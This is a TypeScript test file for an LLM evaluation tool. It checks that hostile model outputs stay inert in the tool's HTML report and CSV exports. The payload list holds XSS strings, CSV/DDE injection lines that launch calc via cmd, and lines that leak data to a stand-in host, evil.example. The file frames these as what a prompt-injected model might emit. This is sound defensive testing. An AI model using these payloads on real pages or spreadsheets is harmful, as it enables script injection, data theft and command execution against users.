import {readFileSync} from 'node:fs';
import {join} from 'node:path';
import {pathToFileURL} from 'node:url';
import Papa from 'papaparse';
import {chromium, type Browser} from 'playwright-core';
import {afterAll, beforeAll, describe, expect, it} from 'vitest';
import type {Result} from '../src/core/types.ts';
import {makeProject, runCli} from './helpers.ts';

const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const FLAGS = ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'];

// Outputs a prompt-injected model could produce. The sandbox model below answers every case with its
// `expected` text, so each one reaches the journal, the HTML report and the CSV verbatim.
const HOSTILE = [
  '<script>window.__pwned = 1; alert(1)</script>',
  '<img src=x onerror="window.__pwned = 2; alert(2)">',
  '</script><script>window.__pwned = 3; alert(3)</script>',
  '<!--<script>window.__pwned = 4</script>-->',
  '{{constructor.constructor("window.__pwned = 5")()}} {{{raw}}} {{> partial}}',
  '<a href="javascript:window.__pwned = 6">click me</a> javascript:alert(6)',
  '<svg onload="window.__pwned = 7"><animate onbegin="alert(7)" attributeName="x"/></svg>',
  '<img src="http://evil.example/leak.png?d=secret"><iframe src="http://127.0.0.1:9/x"></iframe>',
  '<link rel="stylesheet" href="http://evil.example/a.css"><style>@import url(http://evil.example/b.css); body{background:url(http://evil.example/c.png)}</style>',
  '<meta http-equiv="refresh" content="0;url=http://evil.example/"><base href="http://evil.example/">',
  '" onmouseover="alert(10)" x=\' \u2028\u2029 </SCRIPT > <\/script>',
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1,1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
];

describe('hostile model output', () => {
  let browser: Browser;
  let dir: string;
  beforeAll(async () => {
    const cases = HOSTILE.map((expected, i) => ({id: i === 0 ? '<b onmouseover=alert(0)>c0</b>' : `c${i}`, snippet: `${expected.slice(0, 12)} {{x}}`, expected, tags: i % 2 ? '<i>odd</i>' : 'even'}));
    const project = makeProject({
      'bench.config.json': JSON.stringify({providers: ['p.yaml'], suites: ['s.yaml'], sandbox: {latencyScale: 0}}),
      'p.yaml': 'id: sim\ntype: sandbox\nwire: openai\nmodels:\n  - label: perfect\n    model: perfect\n    pricing: { inputPerMTok: 1, outputPerMTok: 2 }\n    sim: { accuracy: 1 }\n  - label: echo2\n    model: echo2\n    sim: { accuracy: 1 }\n',
      's.yaml': 'id: hostile\nprompt: "Repeat after me: {{snippet}}"\ndataset: cases.json\ngraders:\n  - type: exact-match\n    normalize: none\n',
      'cases.json': JSON.stringify(cases),
    });
    const [r, b] = await Promise.all([runCli(['run', '--json'], {cwd: project}), chromium.launch({executablePath: CHROMIUM, headless: true, args: FLAGS})]);
    browser = b;
    expect(r.code, r.stderr).toBe(0);
    dir = JSON.parse(r.stdout).dir;
  });
  afterAll(async () => {
    await browser?.close();
  });

  it('reaches the journal verbatim (the corpus really went through the sandbox)', () => {
    const results = readFileSync(join(dir, 'results.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l) as Result);
    const outputs = new Set(results.map((r) => r.output));
    for (const h of HOSTILE.filter((x) => !/^[\t\r]/.test(x))) expect(outputs.has(h), h).toBe(true);
  });

  it('keeps the data island closed: the only </script> tags are the page\'s own', () => {
    const html = readFileSync(join(dir, 'report.html'), 'utf8');
    expect(html.match(/<\/script/gi)).toHaveLength(2);
    expect(html).not.toMatch(/<script>window/i);
    const island = html.slice(html.indexOf('id="assay-data">') + 16, html.indexOf('</script>'));
    expect(island.length).toBeGreaterThan(100);
    expect(island).not.toMatch(/[<>&\u2028\u2029]/);
    expect(JSON.parse(island).results.length).toBe(HOSTILE.length * 2);
    expect(html).not.toMatch(/script-src[^;]*unsafe-inline/);
  });

  it('runs no injected script and sends no request, before and after using the page', async () => {
    const page = await browser.newPage();
    const url = pathToFileURL(join(dir, 'report.html')).href;
    const requests: string[] = [];
    const dialogs: string[] = [];
    const console: string[] = [];
    page.on('request', (req) => requests.push(req.url()));
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    page.on('console', (m) => console.push(`${m.type()}: ${m.text()}`));
    page.on('pageerror', (e) => console.push(`pageerror: ${e.message}`));
    await page.goto(url);
    await page.waitForSelector('body[data-ready="1"]');
    // Exercise every renderer: all rows, each filter, a search that matches markup, hovering outputs.
    await page.fill('#f-search', '<script>');
    await page.waitForTimeout(150);
    await page.fill('#f-search', 'onerror');
    await page.waitForTimeout(150);
    await page.fill('#f-search', '');
    await page.selectOption('#f-model', {label: 'perfect'});
    await page.selectOption('#f-tag', {label: '<i>odd</i>'});
    await page.selectOption('#f-tag', '-1');
    await page.selectOption('#f-status', 'pass');
    await page.selectOption('#f-status', '');
    await page.hover('#cases tbody tr:first-child td:last-child');
    await page.waitForTimeout(200);

    expect(await page.evaluate(() => (window as unknown as {__pwned?: unknown}).__pwned)).toBeUndefined();
    expect(dialogs).toEqual([]);
    expect(requests).toEqual([url]);
    expect(console).toEqual([]);
    expect(page.url()).toBe(url);
    // The markup is shown as text, exactly.
    const texts = await page.$$eval('#cases pre.out', (pres) => pres.map((p) => p.textContent));
    expect(texts).toContain('<script>window.__pwned = 1; alert(1)</script>');
    expect(texts).toContain('</script><script>window.__pwned = 3; alert(3)</script>');
    expect(await page.$$eval('#cases img, #cases script, #cases iframe, #cases a, #cases svg, #cases b, #cases i', (els) => els.length)).toBe(0);
    await page.close();
  });

  it('leaves no formula in results.csv or summary.csv', () => {
    const trigger = /^[=+\-@\t\r]/;
    const number = /^[-+]?\d+(?:\.\d+)?(?:e[-+]?\d+)?$/i;
    for (const file of ['results.csv', 'summary.csv']) {
      const parsed = Papa.parse<string[]>(readFileSync(join(dir, file), 'utf8'), {skipEmptyLines: true});
      expect(parsed.errors).toEqual([]);
      const live = parsed.data.flat().filter((cell) => trigger.test(cell) && !number.test(cell));
      expect(live, file).toEqual([]);
    }
    const rows = Papa.parse<Record<string, string>>(readFileSync(join(dir, 'results.csv'), 'utf8'), {header: true, skipEmptyLines: true}).data;
    const outputs = rows.map((r) => r.output);
    expect(outputs).toContain(`'=HYPERLINK("http://evil.example/?leak="&A1,"click")`);
    expect(outputs).toContain("'@SUM(1,1)*cmd|' /C calc'!A0");
  });
});
